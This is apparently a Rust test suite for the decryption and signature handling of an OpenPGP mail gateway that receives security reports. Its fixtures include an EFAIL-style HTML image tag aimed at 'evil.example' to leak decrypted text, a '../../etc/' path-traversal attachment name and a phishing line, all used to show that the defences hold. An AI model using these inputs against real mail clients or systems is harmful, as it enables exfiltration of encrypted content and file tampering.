//! Every shape that OpenPGP mail comes in is opened, and nothing in clear is joined with what was encrypted.

use super::fixture_tests::*;
use super::*;
use crate::report::verdict::KeyOrigin;
use std::process::Command;

fn to_gateway<'a>() -> Making<'a> {
    Making { to: vec![&world().gateway], signer: Some(&world().bob), ..Making::default() }
}

fn part(fields: &str, body: &[u8]) -> Vec<u8> {
    [b"\r\n--mix\r\n", fields.as_bytes(), b"\r\n\r\n", body].concat()
}

fn mixed(parts: &[Vec<u8>]) -> Vec<u8> {
    let head = b"Content-Type: multipart/mixed; boundary=mix\r\n".to_vec();
    mail("bob@reporters.example", "Report", &[head, parts.concat(), b"\r\n--mix--\r\n".to_vec()].concat())
}

fn text_mail(body: &[u8]) -> Vec<u8> {
    mail("bob@reporters.example", "Inline", &[b"Content-Type: text/plain; charset=utf-8\r\n\r\n", body].concat())
}

#[test]
fn an_encrypted_and_signed_mail_is_opened_byte_for_byte() {
    let opened = opened(&encrypted_report(&to_gateway()));
    assert_eq!(opened.encryption, Encryption::Complete);
    assert_eq!(opened.refusal, None);
    assert_eq!(opened.labels(), [Label::Main]);
    assert_eq!(opened.section(Label::Main).as_bytes(), REPORT);
    assert_eq!(opened.shown_subject(), "Heap overflow");
    assert_eq!(opened.shown_text().trim(), "A heap overflow in the agent.");
    assert_eq!(opened.statuses(), [SignatureStatus::Good]);
    let signature = &opened.signatures[0];
    assert!(signature.inside && signature.whole && !signature.digest.is_empty());
    assert_eq!(signature.key, Some(KeyOrigin::Configured));
    assert_eq!(signature.member, None, "bob is known, but no member");
    assert!(opened.warnings.is_empty(), "{:?}", opened.warnings);
    assert!(opened.parts.iter().all(|part| part.encrypted));
    let addresses: Vec<_> = opened.recipients.iter().map(|one| one.address().to_owned()).collect();
    assert_eq!(addresses, [TEAM, "carol@kata.example"]);
    assert_eq!(opened.references.len(), 2);
}

#[test]
fn gnupg_and_sq_mails_are_opened_and_a_members_signature_is_hers() {
    let world = world();
    let gpg = Gpg::new(&[&world.gateway, &world.alice]);
    let armored = gpg.run(
        &["--armor", "--sign", "--encrypt", "-u", "alice@kata.example", "-r", &world.gateway.fingerprint().to_hex()],
        REPORT,
    );
    let by_gpg = opened(&mail("alice@kata.example", "...", &pgp_mime(&armored)));
    assert_eq!(by_gpg.statuses(), [SignatureStatus::Good]);
    assert_eq!(by_gpg.signatures[0].member.as_deref(), Some("alice@kata.example"));
    assert!(!by_gpg.warns(Warning::SignerIsNotSender));

    let folder = tempfile::tempdir().unwrap();
    let (key, cert, input) = (folder.path().join("key"), folder.path().join("cert"), folder.path().join("input"));
    std::fs::write(&key, secret(&world.alice)).unwrap();
    std::fs::write(&cert, public(&world.gateway)).unwrap();
    std::fs::write(&input, REPORT).unwrap();
    let sq = Command::new("sq")
        .args(["encrypt", "--recipient-cert"])
        .arg(&cert)
        .arg("--signer-key")
        .arg(&key)
        .arg(&input)
        .output()
        .unwrap();
    assert!(sq.status.success(), "{}", String::from_utf8_lossy(&sq.stderr));
    let by_sq = opened(&mail("alice@kata.example", "...", &pgp_mime(&sq.stdout)));
    assert_eq!(by_sq.statuses(), [SignatureStatus::Good]);
    assert_eq!(by_sq.section(Label::Main).as_bytes(), REPORT);
}

#[test]
fn version_2_encrypted_data_is_opened() {
    let opened = opened(&encrypted_report(&Making { aead: true, ..to_gateway() }));
    assert_eq!((opened.refusal, opened.statuses()), (None, vec![SignatureStatus::Good]));
    assert_eq!(opened.session_keys[0].algorithm, None);
}

#[test]
fn a_signature_inside_the_encryption_in_its_own_part_covers_the_payload() {
    let world = world();
    let gpg = Gpg::new(&[&world.bob]);
    let content = "Content-Type: text/plain\r\n\r\nFirst line \r\nlast line\r\n";
    let signature = gpg.run(&["--armor", "--detach-sign"], content.as_bytes());
    let signed = format!(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"s\"\r\n\r\n\
         --s\r\n{content}\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n{}\r\n--s--\r\n",
        String::from_utf8(signature).unwrap()
    );
    let making = Making { signer: None, ..to_gateway() };
    let nested = opened(&mail("bob@reporters.example", "...", &pgp_mime(&making.armored(signed.as_bytes()))));
    assert_eq!(nested.statuses(), [SignatureStatus::Good]);
    assert!(nested.signatures[0].inside && nested.signatures[0].whole);

    // The same in clear: stored with line feeds only, as a Maildir has it.
    for bytes in [mail("bob@reporters.example", "Signed", signed.as_bytes())]
        .into_iter()
        .flat_map(|crlf| [String::from_utf8(crlf.clone()).unwrap().replace("\r\n", "\n").into_bytes(), crlf])
    {
        let clear = opened(&bytes);
        assert_eq!(clear.statuses(), [SignatureStatus::Good]);
        assert_eq!(clear.encryption, Encryption::None);
        assert!(!clear.signatures[0].inside && clear.warns(Warning::InClear));
        let main = clear.section(Label::Main);
        assert!(main.contains("multipart/signed") && !main.contains("Return-Path") && !main.contains("mua.example"));
        let changed = String::from_utf8(bytes).unwrap().replace("last line", "last lime").into_bytes();
        assert_eq!(opened(&changed).statuses(), [SignatureStatus::Bad]);
    }
}

#[test]
fn encryption_within_encryption_shows_the_innermost_content() {
    let inner = pgp_mime(&to_gateway().armored(REPORT));
    let outer = Making { signer: None, ..to_gateway() }.armored(&inner);
    let nested = opened(&mail("bob@reporters.example", "...", &pgp_mime(&outer)));
    assert_eq!(nested.labels(), [Label::Main]);
    assert_eq!(nested.section(Label::Main).as_bytes(), REPORT);
    assert_eq!(nested.session_keys.len(), 2);
}

#[test]
fn inline_messages_are_opened_whole_encoded_or_among_other_text() {
    let armored = to_gateway().armored("Gr\u{fc}\u{df}e: overflow\n".as_bytes());
    let whole = opened(&text_mail(&armored));
    assert_eq!((whole.encryption, whole.statuses()), (Encryption::Complete, vec![SignatureStatus::Good]));
    assert_eq!(whole.labels(), [Label::Main]);
    assert!(whole.section(Label::Main).starts_with("Content-Type: text/plain; charset=utf-8\r\n"));
    assert_eq!(whole.shown_text(), "Gr\u{fc}\u{df}e: overflow\n");

    let quoted_printable: String =
        String::from_utf8(armored.clone()).unwrap().replace('=', "=3D").replace('\n', "\r\n");
    let base64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &armored);
    for (encoding, body) in [("quoted-printable", quoted_printable), ("base64", base64)] {
        let head = format!("Content-Type: text/plain\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n{body}");
        let encoded = opened(&mail("bob@reporters.example", "x", head.as_bytes()));
        assert_eq!(encoded.shown_text(), "Gr\u{fc}\u{df}e: overflow\n", "{encoding}");
    }

    let second = to_gateway().armored(b"second secret\n");
    let body = [b"Hello, see below\n".as_slice(), &armored, b"and this\n", &second, b"bye\n"].concat();
    let partial = opened(&text_mail(&body));
    assert_eq!(partial.encryption, Encryption::Partial);
    assert!(partial.warns(Warning::UnencryptedPart));
    assert_eq!(partial.statuses(), [SignatureStatus::Partial, SignatureStatus::Partial]);
    assert!(partial.shown_text().contains("overflow") && partial.shown_text().contains("second secret"));
    assert!(!partial.shown_text().contains("Hello"), "what stood in clear is no part of the text");
    for section in &partial.sections {
        let text = section.entity.expose_text();
        let clear = ["Hello", "and this", "bye"].iter().any(|word| text.contains(word));
        let secret = ["overflow", "second secret"].iter().any(|word| text.contains(word));
        assert!(clear != secret, "never joined");
        assert_eq!(clear, section.label == Label::Unencrypted);
    }
}

#[test]
fn a_charset_in_the_armor_is_heeded() {
    let plain = to_gateway().armored(b"Gr\xfc\xdfe\n");
    let text = String::from_utf8(plain).unwrap().replacen("MESSAGE-----\n", "MESSAGE-----\nCharset: iso-8859-1\n", 1);
    assert_eq!(opened(&text_mail(text.as_bytes())).shown_text(), "Gr\u{fc}\u{df}e\n");
}

#[test]
fn a_cleartext_signature_is_whole_alone_and_partial_among_other_text() {
    let gpg = Gpg::new(&[&world().bob]);
    let signed = gpg.run(&["--clearsign"], b"- a list\nsigned words\n");
    let alone = opened(&text_mail(&signed));
    assert_eq!((alone.encryption, alone.statuses()), (Encryption::None, vec![SignatureStatus::Good]));
    assert!(alone.shown_text().contains("- a list\nsigned words") && !alone.shown_text().contains("BEGIN"));
    assert!(alone.section(Label::Main).contains("-----BEGIN PGP SIGNATURE-----"), "checkable by the members");
    let among = opened(&text_mail(&[b"unsigned lie\n".as_slice(), &signed].concat()));
    assert_eq!(among.statuses(), [SignatureStatus::Partial]);
    assert!(among.warns(Warning::PartlySigned));
}

#[test]
fn a_message_that_is_only_signed_is_never_shown_as_encrypted() {
    let armored = Making { signer: Some(&world().bob), ..Making::default() }.armored(b"just signed\n");
    for bytes in [text_mail(&armored), mail("bob@reporters.example", "x", &pgp_mime(&armored))] {
        let opened = opened(&bytes);
        assert_eq!(opened.encryption, Encryption::None);
        assert!(opened.warns(Warning::InClear));
        assert!(opened.payload_hash.is_none());
        assert!(opened.everything().contains("just signed"));
        assert!(opened.signatures.iter().all(|signature| !signature.inside));
    }
}

#[test]
fn a_quoted_message_is_opened_and_said_to_be_quoted() {
    let armored = String::from_utf8(to_gateway().armored(b"quoted secret\n")).unwrap();
    let quoted: String = armored.lines().map(|line| format!("> {line}\n")).collect();
    let opened = opened(&text_mail(quoted.as_bytes()));
    assert!(opened.warns(Warning::QuotedArmor));
    assert!(opened.shown_text().contains("quoted secret"));
}

#[test]
fn encrypted_attachments_become_sections_of_their_own_with_harmless_names() {
    let file = to_gateway().binary(b"\x7fELF\0crash");
    let note = to_gateway().armored(b"the crash log\n");
    let parts = [
        part("Content-Type: text/plain", b"see attachments\r\n"),
        part(
            "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\
             Content-Disposition: attachment; filename=\"../../etc/poc.bin.gpg\"",
            base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &file).as_bytes(),
        ),
        part("Content-Type: application/pgp-encrypted; name=\"crash.log.asc\"", &note),
    ];
    let opened = opened(&mixed(&parts));
    assert_eq!(opened.labels(), [Label::Unencrypted, Label::Decrypted, Label::Decrypted]);
    assert_eq!(opened.encryption, Encryption::Partial);
    let names: Vec<_> =
        opened.parts.iter().filter(|part| part.encrypted).filter_map(|part| part.name.clone()).collect();
    assert_eq!(names, ["poc.bin", "crash.log"]);
    assert!(opened.section(Label::Decrypted).contains("filename=\"poc.bin\""));
    assert!(opened.everything().contains("the crash log"));
    assert_eq!(opened.statuses(), [SignatureStatus::Partial, SignatureStatus::Partial]);
}

#[test]
fn what_servers_do_to_encrypted_mail_is_repaired() {
    let armored = to_gateway().armored(REPORT);
    let control = part("Content-Type: application/pgp-encrypted", b"Version: 1\r\n");
    let cipher = |media: &str| part(&format!("Content-Type: {media}; name=\"encrypted.asc\""), &armored);
    let exchange = [part("Content-Type: text/plain", b"\r\n"), control.clone(), cipher("application/octet-stream")];
    let swapped = [control.clone(), cipher("text/plain")];
    let attached = [part("Content-Type: text/plain", b" \r\n"), cipher("application/octet-stream")];
    for (shape, bytes) in [("exchange", mixed(&exchange)), ("types", mixed(&swapped)), ("attached", mixed(&attached))] {
        let opened = opened(&bytes);
        assert_eq!(opened.section(Label::Main).as_bytes(), REPORT, "{shape}");
        assert_eq!(opened.encryption, Encryption::Complete, "{shape}");
        assert_eq!(opened.statuses(), [SignatureStatus::Good], "{shape}");
    }
    for repaired in [&exchange[..], &swapped, &attached] {
        assert!(opened(&mixed(repaired)).warns(Warning::RepairedStructure));
    }
    let hollow = opened(&mixed(&[control, part("Content-Type: application/octet-stream", b"gone\r\n")]));
    assert_eq!(hollow.refusal, Some(Refusal::NoCiphertext), "it says that a part is encrypted, and none is");

    // The delimiter was lost on the way.
    let broken = String::from_utf8(encrypted_report(&to_gateway())).unwrap().replace("boundary=\"outer\"", "");
    let opened = opened(broken.as_bytes());
    assert_eq!(opened.section(Label::Main).as_bytes(), REPORT);
    assert!(opened.warns(Warning::RepairedStructure));
}

#[test]
fn a_footer_beside_the_encrypted_part_is_kept_apart() {
    let inner = pgp_mime(&to_gateway().armored(REPORT));
    let inner = [b"\r\n--mix\r\n".as_slice(), &inner].concat();
    let opened = opened(&mixed(&[inner, part("Content-Type: text/plain", b"!answer: list footer\r\n")]));
    assert_eq!(opened.labels(), [Label::Main, Label::Unencrypted]);
    assert_eq!(opened.encryption, Encryption::Partial);
    assert_eq!(opened.section(Label::Main).as_bytes(), REPORT);
    assert!(opened.section(Label::Unencrypted).contains("list footer"));
    assert!(!opened.shown_text().contains("footer"));
    assert_eq!(opened.statuses(), [SignatureStatus::Good], "it covers all that came encrypted");
}

#[test]
fn html_around_a_message_cannot_swallow_it() {
    // EFAIL: an image tag that is left open before the encrypted part and closed after it.
    let inner = [b"\r\n--mix\r\n".as_slice(), &pgp_mime(&to_gateway().armored(REPORT))].concat();
    let parts = [
        part("Content-Type: text/html", b"<img src=\"http://evil.example/"),
        inner,
        part("Content-Type: text/html", b"\">"),
    ];
    let opened = opened(&mixed(&parts));
    assert_eq!(opened.labels(), [Label::Main, Label::Unencrypted, Label::Unencrypted]);
    for section in &opened.sections {
        let text = section.entity.expose_text();
        assert!(!(text.contains("evil.example") && text.contains("heap overflow")));
    }
}

#[test]
fn an_html_twin_of_a_message_is_not_opened_twice() {
    let armored = String::from_utf8(to_gateway().armored(b"once\n")).unwrap();
    let html = format!("<html><body>{}</body></html>", armored.replace('\n', "<br>\n"));
    let bytes = String::from_utf8(mixed(&[
        part("Content-Type: text/plain", armored.as_bytes()),
        part("Content-Type: text/html", html.as_bytes()),
    ]))
    .unwrap()
    .replace("multipart/mixed", "multipart/alternative");
    let opened = opened(bytes.as_bytes());
    assert_eq!(opened.shown_text().matches("once").count(), 1);
    assert_eq!(opened.session_keys.len(), 1);
}

#[test]
fn a_forwarded_mails_signature_is_not_the_mails() {
    let gpg = Gpg::new(&[&world().alice]);
    let content = "Content-Type: text/plain\r\n\r\nold words of alice\r\n";
    let signature = String::from_utf8(gpg.run(&["--armor", "--detach-sign"], content.as_bytes())).unwrap();
    let forwarded = format!(
        "From: alice@kata.example\r\nSubject: old\r\nContent-Type: multipart/signed; boundary=s\r\n\r\n--s\r\n{content}\r\n\
         --s\r\nContent-Type: application/pgp-signature\r\n\r\n{signature}\r\n--s--\r\n"
    );
    let parts =
        [part("Content-Type: text/plain", b"!answer"), part("Content-Type: message/rfc822", forwarded.as_bytes())];
    let opened = opened(&mixed(&parts));
    assert!(opened.signatures.is_empty());
    assert_eq!(opened.shown_text().trim(), "!answer");
}

#[test]
fn smime_empty_and_hollow_mails_are_refused_with_their_reason() {
    let smime = mail(
        "bob@reporters.example",
        "x",
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
        Content-Transfer-Encoding: base64\r\n\r\nMIIB\r\n",
    );
    assert_eq!(opened(&smime).refusal, Some(Refusal::Smime));
    assert_eq!(opened(b" \r\n").refusal, Some(Refusal::Empty));
    let hollow = mail("bob@reporters.example", "x", &pgp_mime(b"nothing here\r\n"));
    let hollow = opened(&hollow);
    assert_eq!(hollow.refusal, Some(Refusal::NoCiphertext));
    assert_eq!((hollow.encryption, hollow.labels()), (Encryption::Complete, vec![Label::Unopened]));
    assert!(hollow.section(Label::Unopened).contains("nothing here"));
}

#[test]
fn bare_decrypted_text_gets_a_header_block_and_nothing_else() {
    let armored = to_gateway().armored(b"Note: this is no header\n\nbut text\n");
    let opened = opened(&mail("bob@reporters.example", "...", &pgp_mime(&armored)));
    assert_eq!(
        opened.section(Label::Main),
        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\
         Note: this is no header\n\nbut text\n"
    );
    assert!(opened.shown_text().starts_with("Note: this is no header"));
}

#[test]
fn plain_mail_is_kept_as_it_is_without_its_transport_fields() {
    let content = "Content-Type: text/plain; charset=iso-2022-jp\r\nX-Internal: host\r\n\r\n\x1b$B%F%9%H\x1b(B\r\n";
    let opened =
        opened(&mail("bob@reporters.example", "=?utf-8?q?Gr=C3=BC=C3=9Fe=0A?= KATA-2026-0007", content.as_bytes()));
    assert_eq!(opened.shown_text().trim(), "\u{30c6}\u{30b9}\u{30c8}");
    assert_eq!(opened.shown_subject(), "Gr\u{fc}\u{df}e KATA-2026-0007");
    assert_eq!(opened.subject_case.unwrap().to_string(), "KATA-2026-0007");
    let main = opened.sections[0].entity.expose_text();
    assert!(main.starts_with("Content-Type:") && !main.contains("X-Internal"));
}

#[test]
fn a_mail_without_mime_fields_is_text_and_its_body_stays_byte_for_byte() {
    let bare = |body: &str| {
        let mail = format!("From: bob@reporters.example\r\nSubject: s\r\n\r\n{body}");
        opened(mail.as_bytes()).section(Label::Main)
    };
    let umlauts = "Gr\u{fc}\u{df}e\nfrom an old program";
    let expected =
        format!("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n{umlauts}");
    assert_eq!(bare(umlauts), expected);
    assert_eq!(bare("ASCII"), "\r\nASCII", "a part without fields is text/plain in US-ASCII (RFC 2046 section 5.1)");
}

#[test]
fn text_hidden_in_parts_that_hold_only_armor_is_shown_and_counts_against_a_signature() {
    let armored = [b"click here: evil.example\n".as_slice(), &to_gateway().armored(REPORT)].concat();
    let opened_mail = opened(&mail("bob@reporters.example", "...", &pgp_mime(&armored)));
    assert_eq!(opened_mail.labels(), [Label::Main, Label::Unencrypted]);
    assert_eq!(opened_mail.encryption, Encryption::Partial);

    let gpg = Gpg::new(&[&world().bob]);
    let content = "Content-Type: text/plain\r\n\r\nwords\r\n";
    let signature = String::from_utf8(gpg.run(&["--armor", "--detach-sign"], content.as_bytes())).unwrap();
    let signed = format!(
        "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n--s\r\n{content}\r\n--s\r\n\
         Content-Type: application/pgp-signature\r\n\r\nan unsigned lie\r\n{signature}\r\n--s--\r\n"
    );
    let opened_mail = opened(&mail("bob@reporters.example", "x", signed.as_bytes()));
    assert_eq!(opened_mail.statuses(), [SignatureStatus::Partial]);
}
